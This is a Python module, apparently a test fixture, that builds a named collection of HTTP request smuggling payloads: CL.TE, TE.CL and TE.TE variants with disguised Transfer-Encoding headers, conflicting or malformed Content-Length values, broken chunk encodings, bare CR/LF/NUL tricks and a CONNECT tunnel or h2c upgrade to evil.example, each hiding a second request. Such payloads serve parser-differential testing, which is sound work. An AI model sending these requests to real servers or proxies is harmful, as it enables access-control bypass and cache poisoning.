"""Requests that two parsers may take for one or for two, with another request hidden inside."""

from __future__ import annotations

HOST = b"Host: rollcall.example.com\r\n"
HIDDEN_PATH = "/smuggled"
HIDDEN = b"GET /smuggled HTTP/1.1\r\n" + HOST + b"\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n"
_LENGTH = b"Content-Length: "


def _post(headers: bytes, body: bytes) -> bytes:
    return b"POST /outer HTTP/1.1\r\n" + HOST + headers + b"\r\n" + body


def _size(body: bytes) -> bytes:
    return _LENGTH + b"%d\r\n" % len(body)


# Ends for who reads chunks; goes on for who reads a length.
_CL_TE_BODY = b"0\r\n\r\n" + HIDDEN
# One chunk for who reads chunks; four bytes, and then the hidden request, for the other.
_TE_CL_BODY = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
_FOUR = _LENGTH + b"%d\r\n" % len(b"%x\r\n" % len(HIDDEN))

# Ways to write the header so that one parser knows it and another one does not.
_DISGUISES = {
    "another coding": b"Transfer-Encoding: xchunked\r\n",
    "not last": b"Transfer-Encoding: chunked, identity\r\n",
    "twice": _CHUNKED + b"Transfer-Encoding: x\r\n",
    "twice, other order": b"Transfer-Encoding: x\r\n" + _CHUNKED,
    "space before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the value": b"Transfer-Encoding:\tchunked\r\n",
    "vertical tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\n',
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded into the one before": b"X-A: a\r\n Transfer-Encoding: chunked\r\n",
    "behind a bare LF": b"X-A: a\nTransfer-Encoding: chunked\r\n",
    "behind a bare CR": b"X-A: a\rTransfer-Encoding: chunked\r\n",
    "behind a NUL": b"X-A: a\x00Transfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "in any case": b"tRANSFER-eNCODING: cHUNKED\r\n",
    "identity": b"Transfer-Encoding: identity\r\n",
    "empty": b"Transfer-Encoding: \r\n",
}
_LENGTHS = {
    "two lengths": _LENGTH + b"0\r\n" + _size(HIDDEN),
    "two lengths, other order": _size(HIDDEN) + _LENGTH + b"0\r\n",
    "a list of lengths": _LENGTH + b"0, %d\r\n" % len(HIDDEN),
    "a signed length": _LENGTH + b"+%d\r\n" % len(HIDDEN),
    "a negative length": _LENGTH + b"-1\r\n",
    "a hexadecimal length": _LENGTH + b"0x%x\r\n" % len(HIDDEN),
    "a length with a space inside": _LENGTH + b"0 %d\r\n" % len(HIDDEN),
    "a length of many digits": _LENGTH + b"18446744073709551616\r\n",
    "a space before the length's colon": b"Content-Length : %d\r\n" % len(HIDDEN),
    "a folded length": b"Content-Length:\r\n %d\r\n" % len(HIDDEN),
    "a length behind a bare LF": b"X-A: a\nContent-Length: %d\r\n" % len(HIDDEN),
    "a length behind a NUL": b"X-A: a\x00\r\nContent-Length\x00: %d\r\n" % len(HIDDEN),
}
_CHUNKS = {
    "a chunk larger than it says": b"1\r\nab\r\n0\r\n\r\n",
    "a chunk without its end": b"5\r\nhelloXX0\r\n\r\n",
    "a chunk size behind 0x": b"0x5\r\nhello\r\n0\r\n\r\n",
    "a negative chunk size": b"-5\r\nhello\r\n0\r\n\r\n",
    "a chunk size of many digits": b"10000000000000000\r\n" + b"a" * 20,
    "a chunk size with a bare LF": b"5\nhello\n0\n\n",
    "a chunk extension with a bare LF": b"5;a\nb\r\nhello\r\n0\r\n\r\n",
    "a space before the chunk size": b" 5\r\nhello\r\n0\r\n\r\n",
    "trailers that are headers": (
        b"5\r\nhello\r\n0\r\nContent-Length: 99\r\nTransfer-Encoding: x\r\nX-Late: 1\r\n\r\n"
    ),
}
_LINES = {
    "a bare CR in a header": _post(b"X-A: a\r\r\n" + HIDDEN, b""),
    "a bare LF for an end": b"GET /outer HTTP/1.1\n" + HOST + b"\n" + HIDDEN,
    "a line break in the path": b"GET /outer\r\n HTTP/1.1\r\n" + HOST + b"\r\n" + HIDDEN,
    "a NUL in the path": b"GET /outer\x00 HTTP/1.1\r\n" + HOST + b"\r\n",
    "a space in the path": b"GET /outer /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
    "another version": b"GET /outer HTTP/9.9\r\n" + HOST + b"\r\n" + HIDDEN,
    "no version": b"GET /smuggled\r\n",
    "no host": b"GET /outer HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /outer HTTP/1.1\r\n" + HOST + b"Host: evil.example\r\n\r\n",
    "a host that is none": b"GET /outer HTTP/1.1\r\nHost: a b\r\n\r\n",
    "a space in a header's name": b"GET /outer HTTP/1.1\r\n" + HOST + b"X A: 1\r\n\r\n",
    "a method that is none": b"GE T /outer HTTP/1.1\r\n" + HOST + b"\r\n",
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + b"\r\n" + HIDDEN,
    "chunks in HTTP/1.0": (b"POST /outer HTTP/1.0\r\n" + HOST + _CHUNKED + b"\r\n" + _TE_CL_BODY),
    "an upgrade to h2c": _post(
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ\r\n"
        + _size(HIDDEN),
        HIDDEN,
    ),
    "a websocket that is none": (
        b"GET /graphql HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    ),
}

ATTACKS: dict[str, bytes] = {
    "CL.TE": _post(_size(_CL_TE_BODY) + _CHUNKED, _CL_TE_BODY),
    "TE.CL": _post(_FOUR + _CHUNKED, _TE_CL_BODY),
    **{
        f"CL.TE, {name}": _post(_size(_CL_TE_BODY) + header, _CL_TE_BODY)
        for name, header in _DISGUISES.items()
    },
    **{f"TE.CL, {name}": _post(_FOUR + header, _TE_CL_BODY) for name, header in _DISGUISES.items()},
    **{
        f"TE.TE, {name}": _post(_CHUNKED + header, _CL_TE_BODY)
        for name, header in _DISGUISES.items()
    },
    **{name: _post(headers, HIDDEN) for name, headers in _LENGTHS.items()},
    **{name: _post(_CHUNKED, body + HIDDEN) for name, body in _CHUNKS.items()},
    **_LINES,
}
